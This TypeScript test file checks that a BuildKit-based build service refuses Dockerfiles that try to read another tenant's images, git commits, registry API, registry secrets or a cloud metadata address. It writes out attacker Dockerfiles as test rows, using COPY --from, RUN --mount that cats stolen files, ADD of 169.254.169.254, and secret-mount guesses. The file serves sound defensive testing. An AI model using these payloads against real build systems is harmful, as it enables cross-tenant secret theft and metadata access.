import { assert, describe, it, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import type { Registry } from "../../../dev/stack/Registry.ts"
import { parseImageReference, projectRepository } from "../../../src/names/imageReference.ts"
import {
  BuildFixture,
  buildFixture,
  registryOf,
  run,
  shell,
  unavailableReason
} from "../../support/builds/BuildFixture.ts"
import { buildkitBuilder } from "../../support/builds/buildkitBuilder.ts"
import { build, request } from "../../support/builds/builds.ts"
import { recordedTelemetry } from "../../support/builds/recordedTelemetry.ts"
import { isFull } from "../../support/size.ts"

const reason = await unavailableReason
const { telemetry, told } = recordedTelemetry()

const attacker = {
  workspaceId: "ws_evil",
  projectId: "proj_evil",
  repository: "acme/public",
  installationId: null
} as const
const victim = { workspaceId: "ws_victim", projectId: "proj_victim" } as const
const imageSecret = "CANARY-OF-AN-IMAGE"
const sourceSecret = "CANARY-OF-A-SOURCE"

type Fixture = BuildFixture["Type"]

const builderFor = (registry: (fixture: Fixture) => Registry) =>
  buildkitBuilder({ telemetry, registry: (fixture) => registryOf(registry(fixture)) })

/** The attacker knows the victim's image, commit and their locations. */
interface Target {
  readonly image: string
  readonly commitSha: string
  readonly git: string
  readonly registry: string
}

const targets = new Map<string, Target>()

/** The victim builds its private repository once, so that the daemon's cache and the registry have the protected content. */
const victimBuilds = (fixture: Fixture, registry: Registry) =>
  Effect.gen(function* () {
    const built = targets.get(registry.host)
    if (built !== undefined) return built
    const commitSha = yield* fixture.git.commit("acme/shop", {
      ...fixture.files,
      "apps/web/victim.Dockerfile": "FROM scratch\nCOPY secret.txt source.txt /\n",
      "apps/web/secret.txt": imageSecret,
      "apps/web/source.txt": sourceSecret
    })
    const state = yield* build(request(commitSha, { ...victim, dockerfilePath: "victim.Dockerfile" }))
    if (state._tag !== "Succeeded") return assert.fail(JSON.stringify(state))
    const target: Target = { image: state.image, commitSha, git: fixture.git.url, registry: registry.host }
    targets.set(registry.host, target)
    return target
  })

/** The attacker can write any Dockerfile into its own public repository. */
const attack = (fixture: Fixture, dockerfile: string) =>
  Effect.gen(function* () {
    const commitSha = yield* fixture.git.commit("acme/public", {
      ...fixture.files,
      "apps/web/evil.Dockerfile": dockerfile
    })
    return yield* build(request(commitSha, { ...attacker, dockerfilePath: "evil.Dockerfile" }))
  })

const nowhere: Target = { image: "image", commitSha: "", git: "http://git", registry: "registry" }

const steal = run("echo STOLEN; /bin/busybox cat /stolen/secret.txt /stolen/source.txt /stolen.txt")

/** Each row: how a Dockerfile names a protected source, and the start of the denial. */
const denials: ReadonlyArray<
  readonly [what: string, dockerfile: (target: Target) => string, source: (target: Target) => string]
> = [
  [
    "FROM an image of another project",
    ({ image }) => `FROM ${image} AS victim\n${shell}\nCOPY --from=victim /secret.txt /stolen.txt\n${steal}\n`,
    ({ image }) => `docker-image://${image}`
  ],
  [
    "FROM an image that an ARG names",
    ({ image }) => `ARG BASE=${image}\nFROM $BASE\n`,
    ({ image }) => `docker-image://${image}`
  ],
  [
    "COPY --from an image of another project",
    ({ image }) => `${shell}\nCOPY --from=${image} /secret.txt /stolen.txt\n${steal}\n`,
    ({ image }) => `docker-image://${image}`
  ],
  [
    "RUN --mount=from an image of another project",
    ({ image }) =>
      `${shell}\nRUN --mount=type=bind,from=${image},target=/stolen ["/bin/busybox", "cat", "/stolen/secret.txt"]\n`,
    ({ image }) => `docker-image://${image}`
  ],
  [
    "the registry under a name of its own, localhost",
    ({ image, registry }) => `FROM ${image.replace(registry, registry.replace("127.0.0.1", "localhost"))}\n`,
    ({ registry }) => `docker-image://${registry.replace("127.0.0.1", "localhost")}`
  ],
  [
    "an image of its own project",
    ({ registry }) => `FROM ${projectRepository(registry, attacker)}:before\n`,
    ({ registry }) => `docker-image://${projectRepository(registry, attacker)}`
  ],
  [
    "a registry at an address instead of a name",
    () => "FROM 169.254.169.254/latest/meta-data:1\n",
    () => "docker-image://169.254.169.254/"
  ],
  [
    "ADD of a commit of another repository",
    ({ commitSha, git }) => `${shell}\nADD ${git}/acme/shop.git#${commitSha}:apps/web /stolen\n${steal}\n`,
    ({ git }) => `git://${new URL(git).host}/acme/shop.git`
  ],
  [
    "ADD of another's commit from a repository of its own, which the daemon's cache would answer",
    ({ commitSha, git }) => `${shell}\nADD ${git}/acme/public.git#${commitSha}:apps/web /stolen\n${steal}\n`,
    ({ git }) => `git://${new URL(git).host}/acme/public.git`
  ],
  [
    "ADD of a branch of its own repository",
    ({ git }) => `${shell}\nADD ${git}/acme/public.git#main /stolen\n`,
    ({ git }) => `git://${new URL(git).host}/acme/public.git#main`
  ],
  [
    "ADD over ssh",
    () => `${shell}\nADD git@github.com:acme/shop.git#main /stolen\n`,
    () => "git://github.com/acme/shop.git#main"
  ],
  [
    "ADD of the registry's API",
    ({ registry }) => `${shell}\nADD http://${registry}/v2/ /stolen\n`,
    ({ registry }) => `http://${registry}/v2/`
  ],
  [
    "ADD of a metadata service",
    () => `${shell}\nADD https://169.254.169.254/latest/meta-data /stolen\n`,
    () => "https://169.254.169.254/"
  ],
  [
    "ONBUILD of a stage that another one builds on",
    ({ image }) =>
      `${shell.replace("scratch", "scratch AS base")}\nONBUILD COPY --from=${image} /secret.txt /stolen.txt\nFROM base\n${steal}\n`,
    ({ image }) => `docker-image://${image}`
  ]
]

/** The rows that `npm test` builds: an image, a repository and an address. `npm run test:full` builds them all. */
const alwaysBuilt = new Set([
  "FROM an image of another project",
  "ADD of a commit of another repository",
  "ADD of the registry's API"
])

const ofPasswords = ({ registry }: Fixture) => registry
const ofTokens = ({ tokenRegistry }: Fixture) => tokenRegistry

/** Decisions that do not depend on the registry are equal for both. */
const registries = [
  ["a registry with passwords", ofPasswords, denials],
  ["a registry with tokens", ofTokens, denials.filter(([, , source]) => source(nowhere).startsWith("docker-image:"))]
] as const

if (reason !== null) {
  describe("what a Dockerfile may not read, on a real BuildKit", () => {
    it.skip(`skipped: ${reason}`, () => undefined)
  })
} else {
  layer(buildFixture, { timeout: "5 minutes" })("what a Dockerfile may not read, on a real BuildKit", (it) => {
    for (const [kind, registryIn, rows] of registries) {
      for (const [what, dockerfile, source] of rows) {
        it.scoped.runIf(isFull || alwaysBuilt.has(what))(`${what} is denied as such, with ${kind}`, () =>
          Effect.gen(function* () {
            const fixture = yield* BuildFixture
            const target = yield* victimBuilds(fixture, registryIn(fixture))
            const state = yield* attack(fixture, dockerfile(target))
            if (state._tag !== "Failed") return assert.fail(JSON.stringify(state))
            assert.strictEqual(state.kind, "source_denied", state.message)
            assert.include(state.message, `a build may not read ${source(target)}`.slice(0, 100))
            const events = JSON.stringify(told)
            for (const secret of [imageSecret, sourceSecret]) assert.notInclude(events, secret)
          }).pipe(Effect.provide(builderFor(registryIn)))
        )
      }

      it.scoped.runIf(isFull)(`a frontend that # syntax= names is not run, with ${kind}`, () =>
        Effect.gen(function* () {
          const fixture = yield* BuildFixture
          const { image } = yield* victimBuilds(fixture, registryIn(fixture))
          for (const frontend of [image, "docker/dockerfile:1", "evil.invalid/frontend:1"]) {
            const state = yield* attack(fixture, `# syntax=${frontend}\n${shell}\n${run("echo built")}\n`)
            assert.strictEqual(state._tag, "Succeeded", `${frontend}: ${JSON.stringify(state)}`)
          }
          assert.notInclude(JSON.stringify(told), imageSecret)
        }).pipe(Effect.provide(builderFor(registryIn)))
      )
    }

    it.scoped("the password of the registry is no secret that a RUN can mount", () =>
      Effect.gen(function* () {
        const fixture = yield* BuildFixture
        const ids = ["GIT_AUTH_TOKEN", fixture.registry.host, fixture.registry.username, "docker", ".dockerconfigjson"]
        for (const id of ids) {
          const mount = `--mount=type=secret,id=${id},target=/s,required=true`
          const state = yield* attack(fixture, `${shell}\nRUN ${mount} ["/bin/busybox", "cat", "/s"]\n`)
          assert.strictEqual(state._tag, "Failed", id)
        }
        assert.notInclude(JSON.stringify(told), fixture.registry.password)
      }).pipe(Effect.provide(builderFor(ofPasswords)))
    )

    it.scoped("an unknown registry is denied where ours knows passwords only, and asked where it has tokens", () =>
      Effect.gen(function* () {
        const fixture = yield* BuildFixture
        const unknown = "FROM registry.invalid/team/image:1\n"
        const withPasswords = yield* Effect.provide(attack(fixture, unknown), builderFor(ofPasswords))
        assert.include(withPasswords, { _tag: "Failed", kind: "source_denied" })
        const withTokens = yield* Effect.provide(attack(fixture, unknown), Layer.fresh(builderFor(ofTokens)))
        assert.include(withTokens, { _tag: "Failed", kind: "base_image_not_found" })
      })
    )

    it.scoped("a push to a registry with tokens is done with one for the project's own repository", () =>
      Effect.gen(function* () {
        const fixture = yield* BuildFixture
        const before = fixture.tokenRegistry.tokens.given.length
        const state = yield* build(request(fixture.commitSha, victim))
        if (state._tag !== "Succeeded") return assert.fail(JSON.stringify(state))
        const repository = projectRepository(fixture.tokenRegistry.host, victim)
        assert.isTrue(state.image.startsWith(`${repository}:`))
        const { path } = yield* parseImageReference(state.image)
        const given = fixture.tokenRegistry.tokens.given.slice(before)
        assert.isNotEmpty(given)
        for (const { scopes, username } of given) {
          assert.deepStrictEqual([username, scopes], ["builder", [`repository:${path}:pull,push`]])
        }
      }).pipe(Effect.provide(builderFor(ofTokens)))
    )
  })
}
